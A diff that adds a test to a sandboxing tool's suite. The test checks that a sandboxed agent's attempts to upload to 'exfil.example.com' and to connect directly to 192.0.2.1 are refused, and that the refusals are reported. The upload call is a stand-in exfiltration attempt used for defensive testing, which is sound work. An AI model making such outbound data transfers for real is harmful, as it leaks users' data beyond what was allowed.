@@ -741,4 +741,22 @@ test_footer_names_refused_files() {
   create a file in /var/tmp: allow with --write /var/tmp" "$ERR" "the footer"
 }
 
+# The same with the network: the direct connection Landlock refused (a port other than the
+# proxy's) is named beside the request the proxy refused.
+test_footer_names_refused_connections() {
+	run_setup
+	kernel_audit on
+	run_split nono --user nobody --allow-cwd --network-profile minimal --read "$PRELOAD_DIR" \
+		--env "NODE_OPTIONS=--import $PRELOAD" -- node my_agent.js net https://exfil.example.com/upload
+	assert_rc 0 "node my_agent.js net; stderr: $ERR"
+	assert_eq "fetch https://exfil.example.com/upload TypeError: fetch failed (Proxy response (403) !== 200 when HTTP Tunneling)
+connect 192.0.2.1:443 EACCES
+connect 192.0.2.1:8383 ENETUNREACH" "$OUT" "fetch through the proxy, then direct connections"
+	assert_eq "nono-supervise: Landlock refused 1 access (as the kernel reported them):
+  connect to 192.0.2.1:443: only the proxy is reachable; name a host with --allow-domain
+nono-supervise: the sandbox refused 1 network request:
+  CONNECT exfil.example.com: 'exfil.example.com' port 443: 'exfil.example.com' is not in the allowlist; allow it with --allow-domain exfil.example.com" \
+		"$ERR" "the footer"
+}
+
 run_tests "$@"
